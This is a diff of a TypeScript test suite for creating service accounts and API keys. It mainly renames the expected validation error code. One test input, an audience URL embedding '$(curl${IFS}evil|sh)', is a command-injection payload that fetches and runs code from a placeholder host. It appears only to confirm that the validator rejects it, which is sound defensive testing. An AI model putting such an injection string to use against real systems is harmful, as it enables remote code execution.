@@ -36,15 +36,15 @@ describe("creating service accounts", () => {
 
   it.each([
     [{ name: "billing-job" }, "conflict", "name", /taken/],
-    [{ name: "ttl", tokenTtlSeconds: 30 }, "bad_request", "tokenTtlSeconds", /at least 60/],
-    [{ name: "ttl2", tokenTtlSeconds: 90_000 }, "bad_request", "tokenTtlSeconds", /at most 86400/],
-    [{ name: "aud", audiences: ["ftp://x.example.com"] }, "bad_request", "audiences.0", /absolute URI/],
-    [{ name: "aud2", audiences: ["bad name!"] }, "bad_request", "audiences.0", /Audiences cannot contain spaces/],
-    [{ name: "aud3", audiences: [] }, "bad_request", "audiences", /at least one/],
-    [{ name: "aud4", audiences: Array.from({ length: 11 }, (_, i) => `a${i}.example.com`) }, "bad_request", "audiences", /At most 10/],
-    [{ name: "aud5", audiences: ["https://a.example.com", "https://x.example/$(curl${IFS}evil|sh)"] }, "bad_request", "audiences.1", /\$, backticks, quotes or backslashes/],
-    [{ name: "aud6", audiences: ["https://X.example:443/"] }, "bad_request", "audiences.0", /canonical form: https:\/\/x\.example\/$/],
-    [{ name: "scope", scopes: ["nope:read"] }, "bad_request", "scopes", /Unknown scope/],
+    [{ name: "ttl", tokenTtlSeconds: 30 }, "validation_failed", "tokenTtlSeconds", /at least 60/],
+    [{ name: "ttl2", tokenTtlSeconds: 90_000 }, "validation_failed", "tokenTtlSeconds", /at most 86400/],
+    [{ name: "aud", audiences: ["ftp://x.example.com"] }, "validation_failed", "audiences.0", /absolute URI/],
+    [{ name: "aud2", audiences: ["bad name!"] }, "validation_failed", "audiences.0", /Audiences cannot contain spaces/],
+    [{ name: "aud3", audiences: [] }, "validation_failed", "audiences", /at least one/],
+    [{ name: "aud4", audiences: Array.from({ length: 11 }, (_, i) => `a${i}.example.com`) }, "validation_failed", "audiences", /At most 10/],
+    [{ name: "aud5", audiences: ["https://a.example.com", "https://x.example/$(curl${IFS}evil|sh)"] }, "validation_failed", "audiences.1", /\$, backticks, quotes or backslashes/],
+    [{ name: "aud6", audiences: ["https://X.example:443/"] }, "validation_failed", "audiences.0", /canonical form: https:\/\/x\.example\/$/],
+    [{ name: "scope", scopes: ["nope:read"] }, "validation_failed", "scopes", /Unknown scope/],
   ])("refuses bad input %j with a %s error on its field and saves nothing", async (override, code, field, message) => {
     const { org, actor } = await orgWithServiceAccount();
     const before = await db().serviceAccount.count({ where: { orgId: org.id } });
@@ -130,7 +130,7 @@ describe("lifecycle", () => {
     const key = await createApiKey(actor, org.slug, created.clientId, { name: "ci", scopes: ["billing:read"] }, now);
     expect(key.apiKey).toMatch(/^tak_/);
     expect(key.expiresAt).toBe("2033-04-01T00:00:00.000Z");
-    await expect(createApiKey(actor, org.slug, created.clientId, { name: "x", scopes: ["tessera:introspect"] })).rejects.toMatchObject({ code: "bad_request" });
+    await expect(createApiKey(actor, org.slug, created.clientId, { name: "x", scopes: ["tessera:introspect"] })).rejects.toMatchObject({ code: "validation_failed", status: 422 });
     const never = await createApiKey(actor, org.slug, created.clientId, { name: "forever", expiresInDays: null });
     expect(never.expiresAt).toBeNull();
     await revokeApiKey(actor, org.slug, key.id);
